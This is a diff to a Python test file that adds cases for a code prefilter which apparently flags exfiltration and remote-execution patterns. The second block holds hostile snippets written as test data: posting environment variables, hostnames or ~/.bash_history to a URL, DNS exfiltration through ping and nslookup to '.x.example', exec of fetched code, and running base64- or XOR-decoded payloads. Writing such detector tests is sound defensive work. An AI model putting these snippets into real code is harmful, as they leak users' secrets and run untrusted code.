@@ -276,6 +276,19 @@ def test_a_code_object_compiled_on_a_hit_line_is_followed_to_where_it_runs(
         "import sys\nWHERE = sys.executable\nFLAGS = ['-c']\n",
         # a stack that is not the interpreter's (inspect.stack is reconnaissance)
         "import numpy as np, requests\nx = np.stack(parts)\nrequests.get(URL)\n",
+        # the network, a process and exec named in prose only (branch decide, issue 16):
+        # no egress, no process call, no code run, whatever reconnaissance is beside them
+        "import getpass\nWHO = getpass.getuser()\n"
+        '"""Counts requests made to the proxy (see the socket docs)."""\n',
+        "import os\nCWD = os.getcwd()\n# sent with requests over a socket by the caller\n",
+        "import base64\nKEY = base64.b64decode(K)\n"
+        '"""Do not block the system (and slow down) with a subprocess."""\n',
+        "import platform, requests\nV = platform.python_version()\nrequests.get(URL)\n",
+        'import requests\nmessages = [{"role": "USER", "content": text}]\nrequests.post(U)\n',
+        'import os, requests\nif "TOKEN" in os.environ:\n    requests.get(URL)\n',
+        "import requests\nchat_history = []\nrequests.post(URL, json=chat_history)\n",
+        "# the host must compile the extension, eval mode\n"
+        "raise SystemExit('run: pip install x')\n",
     ],
 )
 def test_one_side_of_a_rule_alone_needs_nothing(prefilter: Prefilter, text: str) -> None:
@@ -311,6 +324,29 @@ def test_one_side_of_a_rule_alone_needs_nothing(prefilter: Prefilter, text: str)
         "import inspect as i\nimport requests\nrequests.post(URL, data=str(i.stack()))\n",
         "import inspect\nimport requests\nf = inspect\nrequests.post(URL, data=str(f.stack()))\n",
         "import requests\nrequests.post(URL, data=str(__import__('inspect').stack()))\n",
+        # each sharpened side, as code spells it (branch decide, issue 16)
+        "import socket\nimport requests as r\nr.post(URL, data=socket.gethostname())\n",
+        "import os\nnet = __import__('requests')\nnet.post(URL, data=os.getcwd())\n",
+        "import os\nfrom http import client\n"
+        "client.HTTPSConnection(H).request('GET', os.getcwd())\n",
+        "import os, socket\nsocket.getaddrinfo(os.getcwd() + '.x.example', 53)\n",
+        "import os, subprocess\nsubprocess.run(['ping', '-c1', os.getcwd() + '.x.example'])\n",
+        "import os\nos.system('nslookup ' + os.getlogin() + '.x.example')\n",
+        "import platform, requests\nrequests.post(URL, data=platform.node())\n",
+        "from platform import node\nimport requests\nrequests.post(URL, data=node())\n",
+        "import platform as p, requests\nrequests.post(URL, data=p.node())\n",
+        "import os, requests\nrequests.post(URL, data=os.environ['USER'])\n",
+        "from os import getenv\nimport requests\nrequests.post(URL, data=getenv('HOME'))\n",
+        "import os, requests\nrequests.post(URL, json=[k for k\n in os.environ])\n",
+        "import os, requests\nfor (k) in os.environ:\n    requests.post(URL, data=k)\n",
+        "import requests\nrequests.post(URL, data=open(HOME + '/.bash_history').read())\n",
+        "import base64, os\nos.system(base64.b64decode(P))\n",
+        "import base64\nfrom subprocess import Popen as run\nrun(base64.b64decode(P))\n",
+        "k = 7\nimport ctypes\nctypes.CDLL(bytes(b ^ k for b in blob))\n",
+        "import requests\nexec(requests.get(URL).text)\n",
+        "import urllib.request as u\nexec(u.urlopen(URL).read())\n",
+        "run = eval\nimport subprocess\nrun('pip install evil')\n",
+        "x = [eval]\nx[0]('pip install evil')\nimport os\n",
     ],
 )
 def test_both_sides_of_a_rule_need_the_ast(prefilter: Prefilter, text: str) -> None:
